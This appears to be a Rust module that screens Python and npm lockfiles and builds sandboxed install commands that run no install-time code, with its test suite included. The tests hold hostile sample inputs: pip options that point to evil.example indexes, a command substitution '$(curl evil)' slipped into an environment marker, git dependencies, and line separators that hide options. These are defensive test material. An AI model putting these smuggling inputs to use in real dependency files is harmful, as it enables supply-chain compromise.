//! Dependency installs (issue 15): a task whose tests need third-party packages gets them
//! in a run of its own, before its test runs, and only from a lockfile.
//!
//! - **Lockfile required.** Python: `requirements.txt` where every requirement is pinned
//!   (`name==version`) with at least one `--hash=sha256:…`, and nothing else (no options,
//!   no URLs, no includes: a requirements file can name its own index or `--trusted-host`).
//!   Node: `package-lock.json` (or `npm-shrinkwrap.json`) next to `package.json`; a
//!   `package.json` without one is refused.
//! - **No code runs at install time.** pip: `--require-hashes --no-deps --only-binary
//!   :all:`, so no source package is ever built (a `setup.py` never runs) and nothing
//!   outside the lockfile is fetched. npm: `npm ci --ignore-scripts`.
//! - **Install and test are separate runs.** The install run is the only run with a
//!   network (the egress mode of [`crate::sandbox::Network::Egress`]: an internal network
//!   whose only way out is the allowlisting proxy). It writes [`DEPS_DIR`] in the
//!   workspace; every later run has no network and gets that directory read-only, with
//!   `PYTHONPATH` / `NODE_PATH` pointing into it.
//! - **Granted per action.** Before installing, the worker asks the orchestrator for
//!   `pkg_install` (MEDIUM in `config/risk_matrix.toml`: within work hours or with an
//!   approval); a refusal fails the run with the proxy's reason.
//!
//! The install run writes [`MARKER`] (the lockfiles' digest) last; a later run of the same
//! step or task with unchanged lockfiles skips the install.

use std::fmt::Write as _;

use sha2::{Digest as _, Sha256};

pub use crate::sandbox::DEPS_DIR;
use crate::sandbox::WORKSPACE_MOUNT;

/// Most bytes of a lockfile read (a larger one is refused, not truncated).
pub const MAX_LOCKFILE_BYTES: u64 = 4 * 1024 * 1024;
/// The file of [`DEPS_DIR`] holding the digest of the lockfiles its contents came from.
pub const MARKER: &str = ".installed";

/// A package ecosystem with a lockfile in the workspace.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Ecosystem {
    /// pip, from `requirements.txt`.
    Python,
    /// npm, from `package-lock.json` or `npm-shrinkwrap.json`.
    Node,
}

impl Ecosystem {
    /// `python` or `node`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Python => "python",
            Self::Node => "node",
        }
    }
}

/// What a workspace needs installed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Plan {
    /// Each ecosystem with its lockfile (workspace-relative) and how many packages it pins
    /// (Node: `None`, npm counts).
    pub lockfiles: Vec<(Ecosystem, &'static str, Option<usize>)>,
    /// The checked Python requirements, one `name==version[; marker] --hash=…` per line:
    /// what pip is given, never the repository's file (whose comments, line breaks or
    /// `# coding:` pip would read differently from this checker).
    pub python: Vec<String>,
    /// SHA-256 (hex) over the lockfiles' names and bytes: what [`MARKER`] must hold.
    pub digest: String,
}

/// The files [`plan`] looks at, as read from the workspace (`None`: missing or not a
/// regular file).
#[derive(Debug, Default, Clone)]
pub struct Lockfiles {
    /// `requirements.txt`.
    pub requirements: Option<Vec<u8>>,
    /// `package.json`.
    pub package_json: Option<Vec<u8>>,
    /// `package-lock.json`.
    pub package_lock: Option<Vec<u8>>,
    /// `npm-shrinkwrap.json`.
    pub shrinkwrap: Option<Vec<u8>>,
}

/// Reads the lockfiles directly under `dir` (the workspace), never through a symlink (the
/// last component is opened with `O_NOFOLLOW`; `dir` itself is the caller's). A missing
/// file, or anything but a regular file, counts as missing; one larger than
/// [`MAX_LOCKFILE_BYTES`] is an error.
pub fn read_lockfiles(dir: &std::path::Path) -> Result<Lockfiles, String> {
    use std::io::Read as _;
    use std::os::unix::fs::OpenOptionsExt as _;
    let read = |name: &str| -> Result<Option<Vec<u8>>, String> {
        let file = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(rustix::fs::OFlags::NOFOLLOW.bits() as i32 | rustix::fs::OFlags::NONBLOCK.bits() as i32)
            .open(dir.join(name));
        let Ok(file) = file else { return Ok(None) };
        match file.metadata() {
            Ok(m) if m.is_file() => {}
            _ => return Ok(None),
        }
        let mut bytes = Vec::new();
        file.take(MAX_LOCKFILE_BYTES + 1).read_to_end(&mut bytes).map_err(|e| format!("cannot read {name}: {e}"))?;
        if bytes.len() as u64 > MAX_LOCKFILE_BYTES {
            return Err(format!("{name} is larger than {MAX_LOCKFILE_BYTES} bytes; no lockfile is that large"));
        }
        Ok(Some(bytes))
    };
    Ok(Lockfiles {
        requirements: read("requirements.txt")?,
        package_json: read("package.json")?,
        package_lock: read("package-lock.json")?,
        shrinkwrap: read("npm-shrinkwrap.json")?,
    })
}

/// The workspace needs an install, `None` when it has nothing to install, or why its
/// lockfiles are unusable (said so that whoever wrote them can fix them).
pub fn plan(files: &Lockfiles) -> Result<Option<Plan>, String> {
    let mut lockfiles = Vec::new();
    let mut python = Vec::new();
    let mut hash = Sha256::new();
    if let Some(bytes) = &files.requirements {
        let text = std::str::from_utf8(bytes).map_err(|_| "requirements.txt is not UTF-8".to_owned())?;
        python = check_requirements(text)?;
        if !python.is_empty() {
            lockfiles.push((Ecosystem::Python, "requirements.txt", Some(python.len())));
            digest_file(&mut hash, "requirements.txt", python.join("\n").as_bytes());
        }
    }
    if files.package_json.is_some() {
        let (name, bytes) = match (&files.shrinkwrap, &files.package_lock) {
            (Some(b), _) => ("npm-shrinkwrap.json", b),
            (None, Some(b)) => ("package-lock.json", b),
            (None, None) => {
                return Err("package.json has no lockfile: commit the package-lock.json that `npm install \
                            --package-lock-only` writes (installs come from a lockfile only)"
                    .to_owned());
            }
        };
        let lock: serde_json::Value = serde_json::from_slice(bytes).map_err(|e| format!("{name} is not JSON: {e}"))?;
        if lock.get("lockfileVersion").and_then(serde_json::Value::as_u64).is_none() {
            return Err(format!("{name} has no lockfileVersion: regenerate it with npm 7 or later"));
        }
        check_npm_lock(name, &lock)?;
        lockfiles.push((Ecosystem::Node, name, None));
        digest_file(&mut hash, "package.json", files.package_json.as_deref().unwrap_or_default());
        digest_file(&mut hash, name, bytes);
    }
    if lockfiles.is_empty() {
        return Ok(None);
    }
    Ok(Some(Plan { lockfiles, python, digest: hex::encode(hash.finalize()) }))
}

fn digest_file(hash: &mut Sha256, name: &str, bytes: &[u8]) {
    hash.update((name.len() as u64).to_be_bytes());
    hash.update(name.as_bytes());
    hash.update((bytes.len() as u64).to_be_bytes());
    hash.update(bytes);
}

/// Every package of an npm lockfile (v2/v3 `packages`, v1 `dependencies`) must come from
/// a registry over HTTPS with an `integrity` hash: a git, file or tarball-URL dependency
/// can carry a `prepare` script that npm runs despite `--ignore-scripts`. Workspace links
/// (`"link": true`) fetch nothing and pass.
fn check_npm_lock(name: &str, lock: &serde_json::Value) -> Result<(), String> {
    fn check(name: &str, key: &str, entry: &serde_json::Value) -> Result<(), String> {
        if key.is_empty() || entry.get("link").and_then(serde_json::Value::as_bool) == Some(true) {
            return Ok(());
        }
        let resolved = entry.get("resolved").and_then(serde_json::Value::as_str).unwrap_or("");
        let integrity = entry.get("integrity").and_then(serde_json::Value::as_str).unwrap_or("");
        if !resolved.starts_with("https://") || !integrity.starts_with("sha512-") {
            return Err(format!(
                "{name}: {:?} is not a registry package over HTTPS with an integrity hash (resolved {:?}); \
                 git, file and URL dependencies cannot be installed",
                key.chars().take(80).collect::<String>(),
                resolved.chars().take(80).collect::<String>()
            ));
        }
        Ok(())
    }
    if let Some(packages) = lock.get("packages").and_then(serde_json::Value::as_object) {
        for (key, entry) in packages {
            check(name, key, entry)?;
        }
    } else if let Some(deps) = lock.get("dependencies").and_then(serde_json::Value::as_object) {
        // v1 nests dependencies of dependencies.
        let mut stack: Vec<(&String, &serde_json::Value)> = deps.iter().collect();
        while let Some((key, entry)) = stack.pop() {
            check(name, key, entry)?;
            if let Some(inner) = entry.get("dependencies").and_then(serde_json::Value::as_object) {
                stack.extend(inner.iter());
            }
        }
    }
    Ok(())
}

/// Checks that `text` is a lockfile: each requirement `name[extras]==version[; marker]`
/// followed only by `--hash=sha256:<64 hex>` (at least one); comments, blank lines and
/// `\` continuations allowed; nothing else, and only printable ASCII, spaces, tabs and
/// `\n` (pip splits lines on `\r`, form feeds and Unicode separators too, which could
/// smuggle an option past a comment). Returns the requirements, normalized: one line
/// each, hashes included, no comment.
pub fn check_requirements(text: &str) -> Result<Vec<String>, String> {
    if let Some((i, c)) = text.char_indices().find(|(_, c)| !(matches!(c, ' '..='~' | '\n' | '\t'))) {
        let line = text[..i].matches('\n').count() + 1;
        return Err(format!(
            "requirements.txt line {line}: the character {c:?} is not printable ASCII; a lockfile holds pinned \
             requirements in plain ASCII only"
        ));
    }
    let mut out = Vec::new();
    let mut logical = String::new();
    let mut first_line = 0;
    let lines: Vec<&str> = text.lines().collect();
    for (i, raw) in lines.iter().enumerate() {
        if logical.is_empty() {
            first_line = i + 1;
        }
        let line = match raw.find(" #").or_else(|| raw.trim_start().starts_with('#').then_some(0)) {
            Some(at) => &raw[..at],
            None => raw,
        };
        if let Some(body) = line.trim_end().strip_suffix('\\') {
            logical.push_str(body);
            logical.push(' ');
            if i + 1 < lines.len() {
                continue;
            }
        } else {
            logical.push_str(line);
        }
        let entry = std::mem::take(&mut logical);
        if entry.trim().is_empty() {
            continue;
        }
        check_requirement(entry.trim()).map_err(|why| {
            format!(
                "requirements.txt line {first_line}: {why}; installs need a lockfile: pin every package with its \
                 hashes (e.g. `pip-compile --generate-hashes` or `pip download` + `pip hash`)"
            )
        })?;
        out.push(entry.split_whitespace().collect::<Vec<_>>().join(" "));
    }
    Ok(out)
}

fn check_requirement(entry: &str) -> Result<(), String> {
    let show = |s: &str| s.chars().take(60).collect::<String>();
    let Some(at) = entry.find("--hash") else {
        return Err(format!("{:?} has no --hash=sha256:…", show(entry)));
    };
    let (spec, hashes) = entry.split_at(at);
    for token in hashes.split_whitespace() {
        let digest = token.strip_prefix("--hash=sha256:").ok_or_else(|| {
            format!("{:?} is not --hash=sha256:<64 hex digits> (only hashes may follow a requirement)", show(token))
        })?;
        if digest.len() != 64 || !digest.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Err(format!("{:?} is not a SHA-256 digest", show(token)));
        }
    }
    let (requirement, marker) = match spec.split_once(';') {
        Some((r, m)) => (r.trim(), Some(m.trim())),
        None => (spec.trim(), None),
    };
    if requirement.starts_with('-') {
        return Err(format!("{:?} is an option; a lockfile holds pinned requirements only", show(requirement)));
    }
    let Some((name, version)) = requirement.split_once("==") else {
        return Err(format!("{:?} is not pinned with ==", show(requirement)));
    };
    let (name, extras) = match name.split_once('[') {
        Some((n, rest)) => (n, Some(rest.strip_suffix(']').ok_or_else(|| format!("{:?}: unclosed [", show(name)))?)),
        None => (name, None),
    };
    let name_ok = |s: &str| {
        !s.is_empty()
            && s.len() <= 100
            && s.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
            && s.as_bytes()[0].is_ascii_alphanumeric()
    };
    if !name_ok(name) || !extras.is_none_or(|e| e.split(',').all(|x| name_ok(x.trim()))) {
        return Err(format!("{:?} is not a package name", show(name)));
    }
    let version_ok = !version.is_empty()
        && version.len() <= 64
        && version.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'!' | b'+' | b'-' | b'_'));
    if !version_ok {
        return Err(format!("{:?} is not one exact version", show(version)));
    }
    if let Some(m) = marker {
        let ok = m.len() <= 200
            && !m.contains("--")
            && m.bytes().all(|b| b.is_ascii_alphanumeric() || b" _.<>=!'\"()~".contains(&b));
        if !ok {
            return Err(format!("the environment marker {:?} holds something other than a marker", show(m)));
        }
    }
    Ok(())
}

/// Quotes `s` for `sh`.
fn sh_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// Where an ecosystem's packages go, inside the container.
pub fn target(ecosystem: Ecosystem) -> String {
    format!("{WORKSPACE_MOUNT}/{DEPS_DIR}/{}", ecosystem.as_str())
}

/// The install run's command: one `sh -c` that starts from an empty [`DEPS_DIR`], installs
/// every ecosystem of `plan` from its lockfile with install-time code disabled, and writes
/// [`MARKER`] only if all of them succeeded. Where packages come from is not in it: the
/// sandbox's egress mode sets `PIP_INDEX_URL` and `npm_config_registry` from its own
/// configuration (the runner's, when there is one), never the worker's.
pub fn install_command(plan: &Plan) -> Vec<String> {
    let deps = format!("{WORKSPACE_MOUNT}/{DEPS_DIR}");
    // Out of the workspace: nothing of the repository is on Python's path (`-I` too), and
    // no configuration file but the sandbox's own variables steers pip.
    let mut script =
        format!("set -eu\ncd /tmp\nexport PIP_CONFIG_FILE=/dev/null\nrm -rf {d}\nmkdir -p {d}\n", d = sh_quote(&deps));
    for (ecosystem, lockfile, _) in &plan.lockfiles {
        let dir = sh_quote(&target(*ecosystem));
        let lock = sh_quote(&format!("{WORKSPACE_MOUNT}/{lockfile}"));
        match ecosystem {
            Ecosystem::Python => {
                // The checked requirements (plain ASCII, no line equal to the delimiter),
                // never the repository's file.
                let _ = writeln!(
                    script,
                    "cat > /tmp/agentfleet-requirements.txt <<'AGENTFLEET_REQUIREMENTS'\n{}\nAGENTFLEET_REQUIREMENTS\n\
                     python3 -I -m pip install --no-input --disable-pip-version-check --no-cache-dir --no-compile \
                     --require-hashes --no-deps --only-binary :all: --target {dir} -r /tmp/agentfleet-requirements.txt",
                    plan.python.join("\n")
                );
            }
            Ecosystem::Node => {
                let manifest = sh_quote(&format!("{WORKSPACE_MOUNT}/package.json"));
                let _ = writeln!(
                    script,
                    "mkdir -p {dir}\ncp {manifest} {lock} {dir}/\ncd {dir}\n\
                     npm ci --ignore-scripts --no-audit --no-fund\ncd {}",
                    sh_quote(WORKSPACE_MOUNT)
                );
            }
        }
    }
    let _ = writeln!(script, "printf '%s\\n' {} > {}", sh_quote(&plan.digest), sh_quote(&format!("{deps}/{MARKER}")));
    vec!["sh".into(), "-c".into(), script]
}

/// The environment of every later run: where the installed packages are found.
pub fn run_env(plan: &Plan) -> Vec<(String, String)> {
    plan.lockfiles
        .iter()
        .map(|(ecosystem, _, _)| match ecosystem {
            Ecosystem::Python => ("PYTHONPATH".to_owned(), target(Ecosystem::Python)),
            Ecosystem::Node => ("NODE_PATH".to_owned(), format!("{}/node_modules", target(Ecosystem::Node))),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const HASH: &str = "--hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254";

    fn python(text: &str) -> Result<Option<Plan>, String> {
        plan(&Lockfiles { requirements: Some(text.as_bytes().to_vec()), ..Lockfiles::default() })
    }

    #[test]
    fn a_pinned_hashed_requirements_file_is_a_lockfile() {
        let text = format!(
            "# pinned\nsix==1.16.0 \\\n    {HASH} \\\n    {HASH}\ntomli[extra]==2.0.1 ; python_version < \"3.11\" {HASH}\n\n"
        );
        assert_eq!(check_requirements(&text).map(|r| r.len()), Ok(2));
        assert_eq!(
            check_requirements(&text).unwrap()[0],
            format!("six==1.16.0 {HASH} {HASH}"),
            "normalized: one line, no comment, no continuation"
        );
        let p = python(&text).unwrap().unwrap();
        assert_eq!(p.lockfiles, vec![(Ecosystem::Python, "requirements.txt", Some(2))]);
        assert_eq!(run_env(&p), vec![("PYTHONPATH".to_owned(), "/workspace/.agentfleet-deps/python".to_owned())]);
        assert_eq!(python("# nothing\n\n"), Ok(None), "nothing to install");
        assert_ne!(
            python(&text).unwrap().unwrap().digest,
            python(&text.replace("1.16.0", "1.17.0")).unwrap().unwrap().digest
        );
    }

    #[test]
    fn anything_that_is_not_a_pinned_hashed_requirement_is_refused() {
        for (line, why) in [
            ("six==1.16.0".to_owned(), "no --hash"),
            ("six>=1.16 ".to_owned() + HASH, "not pinned"),
            (format!("--index-url http://evil.example/simple {HASH}"), "is an option"),
            ("--extra-index-url http://evil.example/simple".to_owned(), "no --hash"),
            (format!("-r other.txt {HASH}"), "is an option"),
            (format!("-e git+https://evil.example/x.git#egg=x {HASH}"), "is an option"),
            (format!("six @ https://evil.example/six.whl {HASH}"), "not pinned"),
            (format!("six==1.16.0 {HASH} --trusted-host evil.example"), "only hashes may follow"),
            ("six==1.16.0 --hash=md5:0123 ".to_owned(), "only hashes may follow"),
            ("six==1.16.0 --hash=sha256:abc".to_owned(), "not a SHA-256"),
            (format!("six==1.16.0 ; os_name == 'x' --index-url=http://e {HASH}"), "other than a marker"),
            (format!("six==1.16.0;$(curl evil) {HASH}"), "other than a marker"),
            (format!("../six==1.0 {HASH}"), "not a package name"),
            (format!("six==1.0 1.1 {HASH}"), "one exact version"),
        ] {
            let err = check_requirements(&format!("ok==1.0 {HASH}\n{line}\n")).unwrap_err();
            assert!(err.contains("line 2") && err.contains(why), "{line:?}: {err}");
        }
        // Line breaks pip sees and this checker would not, hiding options behind a comment.
        for sep in ["\r", "\x0b", "\x0c", "\u{1c}", "\u{85}", "\u{2028}", "\u{2029}"] {
            let text = format!("ok==1.0 {HASH}\nsix==1.0 {HASH} #{sep}--no-binary :all:{sep}--find-links ./vendor\n");
            let err = check_requirements(&text).unwrap_err();
            assert!(err.contains("line 2") && err.contains("not printable ASCII"), "{sep:?}: {err}");
        }
    }

    #[test]
    fn node_needs_its_lockfile() {
        let manifest = Some(b"{\"name\":\"x\"}".to_vec());
        let none = Lockfiles { package_json: manifest.clone(), ..Lockfiles::default() };
        assert!(plan(&none).unwrap_err().contains("package.json has no lockfile"));
        let lock = Some(
            br#"{"lockfileVersion":3,"packages":{"":{"name":"x"},"node_modules/a":{"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-AAAA"},"node_modules/w":{"link":true}}}"#
                .to_vec(),
        );
        let with = Lockfiles { package_json: manifest.clone(), package_lock: lock, ..Lockfiles::default() };
        let p = plan(&with).unwrap().unwrap();
        assert_eq!(p.lockfiles, vec![(Ecosystem::Node, "package-lock.json", None)]);
        let cmd = install_command(&p);
        assert!(cmd[2].contains("npm ci --ignore-scripts"), "{}", cmd[2]);
        let bad =
            Lockfiles { package_json: manifest.clone(), package_lock: Some(b"{}".to_vec()), ..Lockfiles::default() };
        assert!(plan(&bad).unwrap_err().contains("lockfileVersion"));
        for resolved in ["git+ssh://git@evil.example/x.git#abc", "file:../x", "http://registry.npmjs.org/a.tgz", ""] {
            let lock = format!(
                r#"{{"lockfileVersion":3,"packages":{{"node_modules/a":{{"resolved":"{resolved}","integrity":"sha512-A"}}}}}}"#
            );
            let bad = Lockfiles {
                package_json: manifest.clone(),
                package_lock: Some(lock.into_bytes()),
                ..Lockfiles::default()
            };
            assert!(plan(&bad).unwrap_err().contains("cannot be installed"), "{resolved}");
        }
        let v1 = br#"{"lockfileVersion":1,"dependencies":{"a":{"resolved":"https://r/a.tgz","integrity":"sha512-A","dependencies":{"b":{"version":"github:evil/b"}}}}}"#;
        let bad = Lockfiles { package_json: manifest, package_lock: Some(v1.to_vec()), ..Lockfiles::default() };
        assert!(plan(&bad).unwrap_err().contains("\"b\""), "a nested v1 git dependency");
    }

    #[test]
    fn the_install_command_builds_nothing_and_names_no_index() {
        let p = python(&format!("six==1.16.0 {HASH}\n")).unwrap().unwrap();
        let cmd = install_command(&p);
        let script = &cmd[2];
        for flag in
            ["--require-hashes", "--no-deps", "--only-binary :all:", "--target '/workspace/.agentfleet-deps/python'"]
        {
            assert!(script.contains(flag), "{flag}: {script}");
        }
        assert!(!script.contains("index") && !script.contains("http"), "{script}");
        assert!(script.contains("python3 -I -m pip") && script.contains("cd /tmp\n"), "{script}");
        assert!(!script.contains("/workspace/requirements.txt"), "pip reads the checked copy: {script}");
        assert!(script.contains(&format!("\nsix==1.16.0 {HASH}\nAGENTFLEET_REQUIREMENTS\n")), "{script}");
        assert!(script.ends_with(&format!("> '/workspace/.agentfleet-deps/{MARKER}'\n")), "{script}");
    }
}
